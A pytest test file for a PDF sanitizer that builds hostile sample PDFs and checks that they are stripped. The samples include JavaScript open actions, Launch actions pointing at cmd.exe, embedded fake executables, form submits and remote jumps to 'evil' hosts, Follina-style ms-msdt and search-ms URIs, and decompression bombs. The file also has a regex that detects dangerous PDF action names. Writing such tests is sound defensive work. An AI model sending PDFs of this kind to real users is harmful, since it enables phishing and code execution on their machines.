"""PDF sanitizer: the contract, plus PDF-specific attacks built in code with pikepdf."""

from __future__ import annotations

import io
import re
import warnings
import zlib
from collections.abc import Sequence

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from sanitizers.cdr.base import CdrContext
from sanitizers.cdr.pdf import PdfSanitizer
from sanitizers.cdr.settings import CdrPolicy
from sanitizers.policy import LinksPolicy, Policy
from sanitizers.vocabulary import Action, Reason
from tests.sanitizers.cdr.contract import Case, CdrContract

BENIGN = "Benign page text 42"

# Tokens an independent byte-level check looks for in a QDF (plain-text) rewrite.
_DANGEROUS = re.compile(
    rb"(?<![^\s\[<])/(JS|JavaScript|OpenAction|AA|Launch|SubmitForm|ImportData|GoToR|GoToE|RichMedia"
    rb"|RichMediaExecute|EmbeddedFiles?|EF|FileAttachment|XFA|Rendition)(?![A-Za-z0-9#])"
)


def _pdf(build: object = None, pages: int = 1, save: dict[str, object] | None = None) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    for page in pdf.pages:
        page.obj.Resources = Dictionary(
            Font=Dictionary(
                F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            )
        )
        page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 72 720 Td ({BENIGN}) Tj ET".encode())
    if callable(build):
        build(pdf)
    out = io.BytesIO()
    pdf.save(out, **(save or {}))
    return out.getvalue()


def _js(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.OpenAction = action
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action])))


def _launch(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 100, 100],
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _embedded(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(100))


def _file_annot(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ payload", filename="x.exe")
    annot = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 10, 10], FS=spec.obj
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot)])


def _annot_aa(pdf: pikepdf.Pdf) -> None:
    widget = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("name"),
        Rect=[0, 0, 100, 20],
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("this.submitForm('x')"))),
    )
    widget = pdf.make_indirect(widget)
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F=String("http://evil/")))
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _xfa(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script/></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    pdf.Root.NeedsRendering = True


def _remote(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    item = pdf.make_indirect(
        Dictionary(
            Title=String("go"),
            Parent=pdf.Root.Outlines,
            A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0, Name.Fit])),
        )
    )
    pdf.Root.Outlines.First = item
    pdf.Root.Outlines.Last = item
    data = Dictionary(S=Name.ImportData, F=String("x.fdf"))
    pdf.pages[0].obj.AA = Dictionary(C=data)


def _rich_media(pdf: pikepdf.Pdf) -> None:
    annot = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=[0, 0, 10, 10],
        RichMediaContent=Dictionary(Assets=Dictionary()),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot)])


def _uri(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 100, 100],
        A=Dictionary(S=Name.URI, URI=String("https://example.jp/")),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _next_chain(pdf: pikepdf.Pdf) -> None:
    # A harmless GoTo whose /Next chain hides JavaScript, as a direct dictionary.
    js = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('x')"))
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=js)
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=goto)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _cycle(pdf: pikepdf.Pdf) -> None:
    a = pdf.make_indirect(Dictionary())
    b = pdf.make_indirect(Dictionary(Back=a, S=Name.JavaScript, JS=String("1")))
    a.Fwd = b
    a.Self = a
    pdf.Root.Cycle = a
    pdf.pages[0].obj.Parent.Loop = pdf.pages[0].obj


def _deep_page_tree(depth: int) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0].obj
    root = pdf.Root.Pages
    node = root
    for _ in range(depth):
        kid = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=1, Parent=node, Kids=Array([])))
        node.Kids = Array([kid])
        node = kid
    node.Kids = Array([page])
    page.Parent = node
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _stream_bomb(pdf: pikepdf.Pdf) -> None:
    raw = zlib.compress(bytes(80 * 1024 * 1024), 9)
    bomb = pikepdf.Stream(pdf, raw)
    bomb.Filter = Name.FlateDecode
    pdf.pages[0].obj.Contents = pdf.make_indirect(bomb)


def _raw_pdf(body: list[bytes], root: int = 1) -> bytes:
    """A classic-xref PDF from raw object bodies (for syntax pikepdf would normalise)."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, text in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(body) + 1,
        root,
        xref,
    )
    return bytes(out)


_OBFUSCATED = _raw_pdf(
    [
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    ]
)


_INDIRECT_NAME = _raw_pdf(
    [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
        b"/Launch",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 4 0 R /F (cmd.exe) >> >>",
    ]
)


def _incremental_js() -> bytes:
    """A clean revision followed by an incremental update that adds an OpenAction."""
    base = _pdf()
    with pikepdf.open(io.BytesIO(base)) as pdf:
        _js(pdf)
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def qdf_text(data: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf, warnings.catch_warnings():
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)
        out = io.BytesIO()
        pdf.save(
            out,
            qdf=True,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.none,
            compress_streams=False,
        )
    return out.getvalue()


def dangerous_tokens(data: bytes, uri: bool = False) -> set[str]:
    """Independent check: rewrite as QDF (plain text) and look for dangerous name tokens."""
    # Dictionaries only: stream bodies (page text, fonts) may mention these words.
    text = re.sub(rb"\bstream\r?\n.*?\bendstream\b", b"", qdf_text(data), flags=re.DOTALL)
    found = {m.group(1).decode() for m in _DANGEROUS.finditer(text)}
    if uri and re.search(rb"/S\s*/URI\b", text):
        found.add("URI")
    return found


class TestPdfContract(CdrContract):
    kind = "pdf"
    keep_if_clean_rebuilds = True

    def hostile_cases(self) -> Sequence[Case]:
        return [
            Case(
                "js-names-openaction",
                _pdf(_js),
                "js.pdf",
                frozenset({"javascript", "open_action"}),
                reason=Reason.ACTIVE_CONTENT,
                text=(BENIGN,),
            ),
            Case("launch", _pdf(_launch), "launch.pdf", frozenset({"launch"}), text=(BENIGN,)),
            Case(
                "embedded-file",
                _pdf(_embedded),
                "emb.pdf",
                frozenset({"embedded_file"}),
                reason=Reason.EMBEDDED_OBJECT,
                text=(BENIGN,),
            ),
            Case(
                "file-attachment",
                _pdf(_file_annot),
                "fa.pdf",
                frozenset({"file_attachment"}),
                text=(BENIGN,),
            ),
            Case(
                "annot-aa-submit",
                _pdf(_annot_aa),
                "aa.pdf",
                frozenset({"additional_actions", "javascript", "submit_form"}),
                text=(BENIGN,),
            ),
            Case("xfa", _pdf(_xfa), "xfa.pdf", frozenset({"xfa"}), text=(BENIGN,)),
            Case(
                "remote-goto-import",
                _pdf(_remote),
                "r.pdf",
                frozenset({"remote_goto", "import_data"}),
                text=(BENIGN,),
            ),
            Case(
                "rich-media", _pdf(_rich_media), "rm.pdf", frozenset({"rich_media"}), text=(BENIGN,)
            ),
            Case(
                "next-chain", _pdf(_next_chain), "n.pdf", frozenset({"javascript"}), text=(BENIGN,)
            ),
            Case(
                "obfuscated-names", _OBFUSCATED, "o.pdf", frozenset({"javascript", "open_action"})
            ),
            Case("indirect-action-name", _INDIRECT_NAME, "in.pdf", frozenset({"launch"})),
            Case(
                "incremental-update",
                _incremental_js(),
                "inc.pdf",
                frozenset({"javascript"}),
                text=(BENIGN,),
            ),
            Case(
                "cycle-with-js", _pdf(_cycle), "cyc.pdf", frozenset({"javascript"}), text=(BENIGN,)
            ),
            Case(
                "user-password",
                _pdf(save={"encryption": pikepdf.Encryption(owner="o", user="secret")}),
                "enc.pdf",
                action=Action.HELD,
                reason=Reason.ENCRYPTED,
                detectable=False,
            ),
        ]

    def clean_cases(self) -> Sequence[Case]:
        return [
            Case("plain", _pdf(pages=2), "plain.pdf", text=(BENIGN,)),
            Case("with-uri-link", _pdf(_uri), "link.pdf", text=(BENIGN,)),
        ]

    def bomb_cases(self) -> Sequence[Case]:
        return [
            Case("stream-bomb", _pdf(_stream_bomb), "bomb.pdf", action=Action.REMOVED),
            Case("deep-page-tree", _deep_page_tree(200), "deep.pdf", action=Action.REMOVED),
            Case("cycle", _pdf(_cycle), "cycle.pdf"),
        ]

    def dangerous_items(self, data: bytes) -> set[str]:
        return dangerous_tokens(data)

    def assert_parses(self, data: bytes) -> None:
        with pikepdf.open(io.BytesIO(data)) as pdf:
            assert len(pdf.pages) >= 1
            pdf.check_pdf_syntax()

    def extract_text(self, data: bytes) -> str:
        with pikepdf.open(io.BytesIO(data)) as pdf:
            return "".join(
                page.obj.Contents.read_bytes().decode("latin-1")
                for page in pdf.pages
                if isinstance(page.obj.get(Name.Contents), pikepdf.Stream)
            )


def _run(data: bytes, policy: CdrPolicy | None = None, keep: bool = False) -> object:
    ctx = CdrContext(policy=policy or CdrPolicy(), keep_if_clean=keep)
    return PdfSanitizer().run(data, "x.pdf", ctx)


UNSAFE_URIS = (
    "javascript:app.alert(1)",
    " JavaScript:app.alert(1)",
    "java\tscript:app.alert(1)",
    "file:///C:/Windows/System32/calc.exe",
    "\\\\evil.example\\share\\x.exe",
    "ms-msdt:/id PCWDiagnostic /skip force",
    "search-ms:query=invoice&crumb=location:\\\\evil.example\\share",
    "ms-officecmd:{}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "relative/path.exe",
)


def _uri_to(target: str, typed: bool = True) -> object:
    def build(pdf: pikepdf.Pdf) -> None:
        link = Dictionary(
            Subtype=Name.Link, Rect=[0, 0, 100, 100], A=Dictionary(S=Name.URI, URI=String(target))
        )
        if typed:
            link.Type = Name.Annot
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])

    return build


@pytest.mark.parametrize("target", UNSAFE_URIS)
@pytest.mark.parametrize("typed", [True, False])
def test_uri_of_a_disallowed_scheme_is_removed(target: str, typed: bool) -> None:
    outcome = PdfSanitizer().run(_pdf(_uri_to(target, typed)), "x.pdf", CdrContext(CdrPolicy()))
    assert outcome.action == Action.SANITIZED
    assert outcome.removed == ("unsafe_link",)
    assert outcome.reason == Reason.EXTERNAL_REFERENCE
    assert outcome.data is not None
    assert not re.search(rb"/S\s*/URI\b", qdf_text(outcome.data))


def test_allowed_schemes_come_from_the_links_policy() -> None:
    """One list for bodies and documents: with only https allowed, mailto goes too."""
    policy = Policy(links=LinksPolicy(allowed_schemes=("https",)))
    ctx = CdrContext(policy=CdrPolicy(), full_policy=policy)
    mailto = PdfSanitizer().run(_pdf(_uri_to("mailto:a@example.jp")), "x.pdf", ctx)
    https = PdfSanitizer().run(_pdf(_uri_to("HTTPS://example.jp/")), "x.pdf", ctx)
    assert mailto.removed == ("unsafe_link",)
    assert https.removed == ()


def _annotation(subtype: str, kind: str | None, **extra: object) -> object:
    """An annotation of ``subtype`` whose optional /Type is ``kind`` (absent, /Annot, or a
    lie such as /XObject)."""

    def build(pdf: pikepdf.Pdf) -> None:
        annot = Dictionary(Subtype=Name(subtype), Rect=[0, 0, 10, 10])
        if kind is not None:
            annot.Type = Name(kind)
        for key, value in extra.items():
            annot[Name("/" + key)] = value
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot)])

    return build


def _three_d(kind: str | None) -> object:
    def build(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(b"U3D-data")
        stream.Subtype = Name("/U3D")
        stream.OnInstantiate = pdf.make_stream(b"host.launchURL('http://evil.example/');")
        annot = Dictionary(Subtype=Name("/3D"), Rect=[0, 0, 10, 10])
        if kind is not None:
            annot.Type = Name(kind)
        annot[Name("/3DD")] = stream
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot)])

    return build


ANNOTATIONS = {
    "movie": lambda k: _annotation("/Movie", k, Movie=Dictionary(F=String("http://e.example/m"))),
    "richmedia": lambda k: _annotation(
        "/RichMedia", k, RichMediaContent=Dictionary(Assets=Dictionary())
    ),
    "screen": lambda k: _annotation("/Screen", k, A=Dictionary(S=Name.Rendition, R=Dictionary())),
    "sound": lambda k: _annotation("/Sound", k, Sound=Dictionary()),
    "fileattachment": lambda k: _annotation("/FileAttachment", k, FS=String("x.exe")),
    "3d-oninstantiate": _three_d,
}


@pytest.mark.parametrize("name", list(ANNOTATIONS))
@pytest.mark.parametrize("kind", [None, "/Annot", "/XObject", "/Bogus"])
def test_annotations_are_judged_by_subtype_not_type(name: str, kind: str | None) -> None:
    data = _pdf(ANNOTATIONS[name](kind))
    outcome = PdfSanitizer().run(data, "x.pdf", CdrContext(CdrPolicy()))
    assert outcome.action == Action.SANITIZED, outcome
    assert outcome.removed, outcome
    assert outcome.data is not None
    text = qdf_text(outcome.data)
    for token in (b"/Movie", b"/RichMedia", b"/Screen", b"/Sound", b"/3DD", b"OnInstantiate"):
        assert token not in text
    assert b"launchURL" not in text


def _thread(remote: bool) -> object:
    def build(pdf: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name("/Thread"), D=0)
        if remote:
            action.F = String("\\\\evil.example\\share\\threads.pdf")
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])

    return build


def test_remote_thread_is_removed_and_a_local_one_kept() -> None:
    remote = PdfSanitizer().run(_pdf(_thread(True)), "x.pdf", CdrContext(CdrPolicy()))
    local = PdfSanitizer().run(_pdf(_thread(False)), "x.pdf", CdrContext(CdrPolicy()))
    assert remote.removed == ("remote_goto",)
    assert remote.data is not None
    assert b"evil.example" not in qdf_text(remote.data)
    assert local.removed == ()


def test_uri_kept_by_default() -> None:
    outcome = PdfSanitizer().run(_pdf(_uri), "x.pdf", CdrContext(policy=CdrPolicy()))
    assert outcome.removed == ()
    assert outcome.data is not None
    assert b"https://example.jp/" in qdf_text(outcome.data)


def test_owner_password_only_is_sanitized_and_unencrypted() -> None:
    data = _pdf(_js, save={"encryption": pikepdf.Encryption(owner="owner", user="")})
    outcome = PdfSanitizer().run(data, "x.pdf", CdrContext(policy=CdrPolicy()))
    assert outcome.action == Action.SANITIZED
    assert "javascript" in outcome.removed
    assert outcome.data is not None
    with pikepdf.open(io.BytesIO(outcome.data)) as pdf:
        assert not pdf.is_encrypted


def test_output_is_a_full_rewrite() -> None:
    outcome = PdfSanitizer().run(_incremental_js(), "x.pdf", CdrContext(policy=CdrPolicy()))
    assert outcome.data is not None
    assert outcome.data.count(b"%%EOF") == 1  # no incremental update section survives
    assert b"app.alert" not in zlib_inflate_all(outcome.data)


def zlib_inflate_all(data: bytes) -> bytes:
    return qdf_text(data)


@pytest.mark.parametrize(
    ("policy", "reason"),
    [
        (CdrPolicy(pdf_max_pages=3), Reason.LIMIT_ENTRIES),
        (CdrPolicy(pdf_max_objects=5), Reason.LIMIT_ENTRIES),
    ],
)
def test_limits(policy: CdrPolicy, reason: Reason) -> None:
    outcome = PdfSanitizer().run(_pdf(pages=5), "x.pdf", CdrContext(policy=policy))
    assert outcome.action == Action.REMOVED
    assert outcome.reason == reason


def test_stream_bomb_is_limit_size() -> None:
    outcome = PdfSanitizer().run(_pdf(_stream_bomb), "x.pdf", CdrContext(policy=CdrPolicy()))
    assert (outcome.action, outcome.reason) == (Action.REMOVED, Reason.LIMIT_SIZE)


def test_deep_page_tree_is_limit_depth() -> None:
    policy = CdrPolicy(pdf_max_page_tree_depth=8)
    outcome = PdfSanitizer().run(_deep_page_tree(20), "x.pdf", CdrContext(policy=policy))
    assert (outcome.action, outcome.reason) == (Action.REMOVED, Reason.LIMIT_DEPTH)
    shallow = PdfSanitizer().run(_deep_page_tree(6), "x.pdf", CdrContext(policy=policy))
    assert shallow.action == Action.SANITIZED
    # Deeper than qpdf itself accepts: refused while opening.
    deep = PdfSanitizer().run(_deep_page_tree(200), "x.pdf", CdrContext(policy=CdrPolicy()))
    assert deep.action == Action.REMOVED
    assert deep.reason in (Reason.LIMIT_DEPTH, Reason.MALFORMED)


def test_verify_rejects_javascript() -> None:
    from sanitizers.errors import SanitizeError

    with pytest.raises(SanitizeError) as caught:
        PdfSanitizer().verify(_pdf(_js), CdrContext(policy=CdrPolicy()))
    assert caught.value.reason == Reason.VERIFY_FAILED


def test_keep_if_clean_never_delivers_unread_bytes() -> None:
    """Data after %%EOF (or before the header) is read by nobody: keep_if_clean delivers the
    rewritten file, not the sender's bytes."""
    payload = b"MZ\x90\x00" + b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"TRAILER-PAYLOAD"
    for data in (_pdf() + payload, _pdf() + b"\n%%EOF\n" + payload):
        outcome = PdfSanitizer().run(data, "x.pdf", CdrContext(CdrPolicy(), keep_if_clean=True))
        assert outcome.action == Action.SANITIZED, outcome
        assert outcome.reason == Reason.CLEAN
        assert outcome.data is not None
        assert b"TRAILER-PAYLOAD" not in outcome.data
        assert outcome.data.rstrip().endswith(b"%%EOF")


@pytest.mark.parametrize(
    "base", ["file://attacker.example/", "FILE:///C:/", "smb://host/share/", "javascript:x", ""]
)
def test_a_catalog_uri_base_of_a_disallowed_scheme_is_removed(base: str) -> None:
    def build(pdf: pikepdf.Pdf) -> None:
        pdf.Root.URI = Dictionary(Base=String(base))

    outcome = PdfSanitizer().run(_pdf(build), "x.pdf", CdrContext(CdrPolicy()))
    assert outcome.data is not None
    with pikepdf.open(io.BytesIO(outcome.data)) as pdf:
        assert "/URI" not in pdf.Root
    assert "unsafe_link" in outcome.removed


def test_a_catalog_uri_base_of_an_allowed_scheme_stays() -> None:
    def build(pdf: pikepdf.Pdf) -> None:
        pdf.Root.URI = Dictionary(Base=String("https://example.jp/"))

    outcome = PdfSanitizer().run(_pdf(build), "x.pdf", CdrContext(CdrPolicy()))
    assert outcome.data is not None
    with pikepdf.open(io.BytesIO(outcome.data)) as pdf:
        assert str(pdf.Root.URI.Base) == "https://example.jp/"
